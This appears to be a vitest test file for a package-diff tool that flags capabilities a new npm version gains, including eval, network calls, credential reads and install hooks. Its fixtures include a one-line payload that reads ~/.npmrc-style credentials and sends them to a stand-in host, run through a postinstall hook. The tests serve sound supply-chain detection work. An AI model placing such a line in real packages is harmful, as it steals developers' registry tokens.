import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { publishedBytes } from "../../test/support/fake-registry.ts";
import { capturedIo } from "../../test/support/io.ts";
import { temporaryFolder } from "../../test/support/store.ts";
import { runCli } from "./cli.ts";

type Files = Readonly<Record<string, string>>;

/** `veln diff …` in this process, in a home of its own, with no registry to ask. */
function offline() {
  const home = temporaryFolder();
  const folder = (name: string, files: Files): string => {
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(home, name, path)), { recursive: true });
      writeFileSync(join(home, name, path), text);
    }
    return `./${name}`;
  };
  const diff = async (...args: readonly string[]) => {
    const io = capturedIo({ env: { HOME: home }, cwd: home });
    const code = await runCli(["--offline", "diff", ...args], io);
    return { code, printed: io.printed(), said: io.said() };
  };
  return { home, folder, diff };
}

function manifest(version: string, more: object = {}): string {
  return JSON.stringify({ name: "subject", version, ...more });
}

const HONEST = {
  "package.json": manifest("1.0.0"),
  "index.js": "module.exports = (a) => a + 1;\n",
};
const STEALS = `require("https").get("https://a.invalid/" + require("fs").readFileSync("/home/dev/.npmrc"));\n`;

describe("veln diff", () => {
  it("ends with 0 where nothing was gained", async () => {
    const { folder, diff } = offline();
    const from = folder("old", HONEST);
    const to = folder("new", {
      "package.json": manifest("1.0.1"),
      "index.js": "module.exports=function(n){return n+1};",
    });
    expect(await diff(from, to)).toEqual({
      code: 0,
      printed: [
        "subject@1.0.0 → subject@1.0.1",
        "0 capabilities gained, 0 lost; 2 files changed, 0 added, 0 removed; 0 functions",
        "changed, 0 added, 0 removed.",
        "",
      ].join("\n"),
      said: "",
    });
  });

  it("ends with 3 where something was, and prints the document that the contract names", async () => {
    const { folder, diff } = offline();
    const from = folder("old", HONEST);
    const to = folder("new", {
      "package.json": manifest("1.1.0"),
      "index.js": "module.exports = (a) => eval(a);\n",
    });
    const { code, printed, said } = await diff("--json", from, to);
    expect({ code, said, report: JSON.parse(printed) as unknown }).toEqual({
      code: 3,
      said: "",
      report: {
        from: "pkg:npm/subject@1.0.0",
        to: "pkg:npm/subject@1.1.0",
        gained: [
          {
            capability: "dynamic-code",
            file: "index.js",
            line: 1,
            function: "exports",
            reachableFrom: "entry-point",
            excerpt: "module.exports = (a) => eval(a);",
            column: 25,
            api: "eval",
            target: null,
            via: ["index.js"],
            how: "new",
          },
        ],
        lost: [],
        files: { added: [], removed: [], changed: ["index.js", "package.json"], moved: [] },
        constants: { added: [], removed: [] },
        functions: { same: 1, changed: 1, added: 0, removed: 0 },
        anomalies: [],
        manifest: { hooks: [], dependencies: [], entries: [] },
        unknown: [],
      },
    });
  });

  it("ends with 1 where an install hook reaches it", async () => {
    const { folder, diff } = offline();
    const from = folder("old", HONEST);
    const to = folder("new", {
      ...HONEST,
      "package.json": manifest("1.0.1", { scripts: { postinstall: "node setup" } }),
      "setup.js": STEALS,
    });
    const { code, printed } = await diff(from, to);
    expect(code).toBe(1);
    expect(printed.split("\n")).toEqual(
      expect.arrayContaining([
        "  network-out by https.get a.invalid",
        "      setup.js:1: new; runs at install",
        "  credential-read by fs.readFile /home/dev/.npmrc",
        "  scripts.postinstall is new: node setup",
        "  + setup.js",
      ]),
    );
  });

  it("shows both versions side by side, and lets no package write Markdown", async () => {
    const { folder, diff } = offline();
    const from = folder("old", {
      ...HONEST,
      "index.js": "function go(x) {\n  // | `a` <b>\n  return x;\n}\ngo(1);\n",
    });
    const to = folder("new", {
      "package.json": manifest("1.0.1"),
      "index.js": "function go(x) {\n  // | `a` <b>\n  eval(x);\n  return x;\n}\ngo(1);\n",
    });
    const { code, printed } = await diff("--markdown", from, to);
    expect({ code, lines: printed.split("\n") }).toEqual({
      code: 3,
      lines: [
        "# `subject@1.0.0` → `subject@1.0.1`",
        "",
        "1 capability gained, 0 lost; 2 files changed, 0 added, 0 removed; 1 function changed, 0 added, 0 removed.",
        "",
        "## Can do now",
        "",
        "### dynamic-code by `eval` `1`",
        "",
        "`index.js:3 in go`: new; runs where the package is used.",
        "",
        "| before: `index.js:1` | after: `index.js:1` |",
        "| --- | --- |",
        "| `function go(x) {` | `function go(x) {` |",
        "| ``   // \\| `a` <b> `` | ``   // \\| `a` <b> `` |",
        "|  | `   eval(x); ` |",
        "| `   return x; ` | `   return x; ` |",
        "| `}` | `}` |",
        "",
      ],
    });
  });

  it("reads tarballs, and says what could not be compared", async () => {
    const { home, folder, diff } = offline();
    writeFileSync(join(home, "old.tgz"), publishedBytes("subject", "1.0.0"));
    const to = folder("new", {
      "package.json": manifest("1.0.1"),
      "index.js": `require("fs");${"[".repeat(10_000)}`,
    });
    const { code, printed } = await diff("--json", "./old.tgz", to);
    expect({ code, unknown: (JSON.parse(printed) as { unknown: unknown }).unknown }).toEqual({
      code: 3,
      unknown: ["index.js: the code nests too deep to be parsed"],
    });
  });

  it("names a version without a proper name as it was asked for", async () => {
    const { folder, diff } = offline();
    const from = folder("old", { "package.json": "{}" });
    const { code, printed } = await diff("--json", from, from);
    expect({ code, report: JSON.parse(printed) as unknown }).toMatchObject({
      code: 0,
      report: { from: "./old", to: "./old", gained: [] },
    });
  });

  it("takes one view at a time", async () => {
    const { diff } = offline();
    const { code, printed } = await diff("--json", "--markdown", "./old", "./new");
    const error = { code: "usage", message: "Choose one of --json and --markdown." };
    expect({ code, answer: JSON.parse(printed) as unknown }).toEqual({
      code: 2,
      answer: { error },
    });
  });

  it.each<[name: string, args: readonly string[], said: RegExp]>([
    ["one version", ["./old"], /Say which two versions/],
    ["three versions", ["./old", "./old", "./old"], /Say which two versions/],
    ["a folder that is not there", ["./old", "./gone"], /does not exist/],
    ["a folder that is no package", ["./old", "./empty"], /no package\.json/],
  ])("refuses %s", async (_, args, said) => {
    const { folder, diff } = offline();
    folder("old", HONEST);
    folder("empty", { "x.js": "" });
    const answer = await diff(...args);
    expect({ ...answer, said: "" }).toEqual({ code: 2, printed: "", said: "" });
    expect(answer.said).toMatch(said);
  });
});
